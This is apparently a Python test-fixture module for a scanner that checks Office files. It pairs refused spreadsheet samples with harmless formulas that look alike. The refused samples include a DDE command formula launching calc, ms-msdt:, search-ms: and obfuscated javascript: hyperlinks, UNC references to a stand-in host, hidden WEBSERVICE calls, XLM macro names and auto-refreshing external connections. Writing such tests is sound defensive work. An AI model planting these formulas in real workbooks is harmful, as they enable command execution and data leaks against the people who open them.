"""Sheets that ask elsewhere, each in a way of its own, and honest ones that look alike."""

from functools import partial

from common.files.codes import Code
from tests.common.files import craft_office as craft
from tests.common.files.craft_office import docx, rel, xlsx
from tests.common.files.office_parts import HTTP, connection


def _sheet(formula):
    return xlsx(sheet=craft.cell(formula.replace("&", "&amp;")))


def _connection(attributes):
    content = f'<connections xmlns="{craft.S}"><connection id="1" name="a" type="5" {attributes}/></connections>'
    return xlsx(rel("connections", "connections.xml"), parts=[("xl/connections.xml", content)])


def _extended(inner):
    return connection(f'<extLst><ext><x15:connection xmlns:x15="x">{inner}</x15:connection></ext></extLst>')


def _maps(schema):
    content = f'<MapInfo><Schema ID="a" {schema}/><Map><DataBinding DataBindingLoadMode="1"/></Map></MapInfo>'
    return xlsx(rel("xmlMaps", "m.xml"), parts=[("xl/m.xml", content)])


def _name(attributes, formula):
    return xlsx(workbook=f'<definedNames><definedName name="x" {attributes}>{formula}</definedName></definedNames>')


MASHUP = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
FORMULAS_REFUSED = {
    r"\\\\zly\x\[a.xlsx]A!A1": Code.OUTSIDE_DATA,
    r"""INDIRECT("'\\zly\[a.xlsx]A'!A1")""": Code.OUTSIDE_DATA,
    """INDIRECT("'http://zly/["&A1&"]A'!A1")""": Code.OUTSIDE_DATA,
    "[http://zly/a.xlsx]A!A1": Code.OUTSIDE_DATA,
    r'HYPERLINK("\\zly\a.pdf","a")': Code.LINK,
    'HYPERLINK("ms-"&"msdt:/x","a")': Code.LINK,
    'HYPERLINK(CHAR(106)&"avascript:x")': Code.LINK,
    'HYPERLINK(CHAR(106)&A1)&HYPERLINK(A1,"a")': Code.LINK,
    'HYPERLINK("https://gmina.pl"&HYPERLINK("ms-msdt:/x","a"),"a")': Code.LINK,
    'HYPERLINK(CONCATENATE(A1,"script:x"),"a")': Code.LINK,
    'HYPERLINK("ms-msdt"&":x")': Code.LINK,
    'IF(A1,1,HYPERLINK(UNICHAR(109)&B1,"a"))': Code.LINK,
    'HYPERLINK("https://gmina.pl","a")&HYPERLINK("search-ms:x","a")': Code.LINK,
    'HYPERLINK(IF(A1="https://x","ms-msdt:/x",B1))': Code.LINK,
    "_xlfn.LET(_xlpm.a,_xlfn.IMAGE,_xlpm.a(A1))": Code.FORMULA,
    "LET(a,WEBSERVICE,a(A1))": Code.FORMULA,
    "_xlfn.MAP(A1:A9,_xleta.WEBSERVICE)": Code.FORMULA,
    '_xlfn.STOCKHISTORY("MSFT",1)': Code.FORMULA,
    'CUBEVALUE("conn","x")': Code.FORMULA,
    '_xlfn.TRANSLATE("a","b")': Code.FORMULA,
    '_xlfn.COPILOT("a",A1:B9)': Code.FORMULA,
    '_xlfn._xlws.PY("x",0)': Code.FORMULA,
    r'FILES("\\zly\*")': Code.FORMULA,
    "Tabela1[a]+cmd|'/c calc'!A0": Code.DDE,
    "'a'|'b'!A0": Code.DDE,
}
FORMULAS_TAKEN = [
    "Tabela1[Koszt | netto]",
    "Tabela1[Image(szt.)]*2",
    "Tabela1[Run (km)]",
    "SUM(Tabela1[[#This Row],[Call(x)]:[Cena | szt]])",
    "Tabela1['[a'] | b]+Tabela1[it''s (py)]",
    "OFERTA.RUN(1)",
    "Image!A1+Py!A1",
    "Evaluate*2",
    "SUMIFS(T[Poke],T[Run],1)",
    'COUNTIF(A:A,"a|b")',
    "_xlfn.LET(_xlpm.image,A1,_xlpm.image*2)",
    "LET(x,Image!A1,x*2)",
    'HYPERLINK(A1,"x")',
    'HYPERLINK("https://gmina.pl/"&HYPERLINK("b","c"),CHAR(65)&"a:b")',
    'HYPERLINK("#A!A1","x")',
    'HYPERLINK("#"&A1&"!A1","x")',
    'HYPERLINK("https://gmina.pl/"&A1&".pdf","Uwaga: opis")',
    'HYPERLINK("mailto:"&A1&"?body="&CHAR(10)&"Temat: x","x")',
    'HYPERLINK(IF(A1="","","https://"&A1),CHAR(10)&"ms-x:y")',
    'HYPERLINK(SUBSTITUTE(A1," ","%20"))',
    'INDIRECT("\'"&A1&"\'!B2")',
    r"""INDIRECT("'C:\[a.xlsx]A'!A1")""",
    "'O''Brien (call)'!A1",
    "INDEX({1|2;3|4},1,2)",
    '"C:\\\\dane"&A1',
]

REFUSED = {
    **{f"sheet with {formula}": (partial(_sheet, formula), code) for formula, code in FORMULAS_REFUSED.items()},
    "connection kept on the net": (partial(_connection, f'odcFile="{HTTP}"'), Code.OUTSIDE_DATA),
    "connection kept on a server": (partial(_connection, r'odcFile="\\zly\a.odc"'), Code.OUTSIDE_DATA),
    "connection made on opening": (partial(_connection, 'refreshOnLoad="1"'), Code.OUTSIDE_DATA),
    "connection of a newer kind": (partial(_extended, '<x15:oledbPr connection="Provider=x"/>'), Code.OUTSIDE_DATA),
    "connection to a feed": (partial(_extended, f'<x15:dataFeedPr connection="{HTTP}"/>'), Code.OUTSIDE_DATA),
    "query kept among the data": (
        lambda: xlsx(rel("customXml", "../customXml/item1.xml"), parts=[("customXml/item1.xml", MASHUP)]),
        Code.OUTSIDE_DATA,
    ),
    "query nobody refers to": (lambda: xlsx(parts=[("customXml/item1.xml", MASHUP)]), Code.OUTSIDE_DATA),
    "map to a scheme of the net": (partial(_maps, f'SchemaRef="{HTTP}"'), Code.OUTSIDE_DATA),
    "name that is a macro": (partial(_name, 'function="1" xlm="1"', "FORMULA(1)"), Code.MACROS),
}
TAKEN = {
    "sheet with the formulas that look alike": lambda: xlsx(
        sheet="".join(craft.cell(formula.replace("&", "&amp;")) for formula in FORMULAS_TAKEN)
    ),
    "connection kept on a drive": partial(_connection, r'odcFile="C:\Dane\a.odc" refreshOnLoad="0"'),
    "pivot table renewed on opening": lambda: xlsx(
        rel("pivotCacheDefinition", "p.xml"), parts=[("xl/p.xml", '<pivotCacheDefinition refreshOnLoad="1"/>')]
    ),
    "map to a scheme beside": partial(_maps, 'SchemaRef="wniosek.xsd" Namespace="http://crd.gov.pl/x"'),
    "name of an area": partial(_name, 'xlm="0"', "Arkusz1!$A$1"),
    "data that tell of a query": lambda: docx(
        rel("customXml", "../customXml/item1.xml"), parts=[("customXml/item1.xml", "<dane>DataMashup</dane>")]
    ),
}
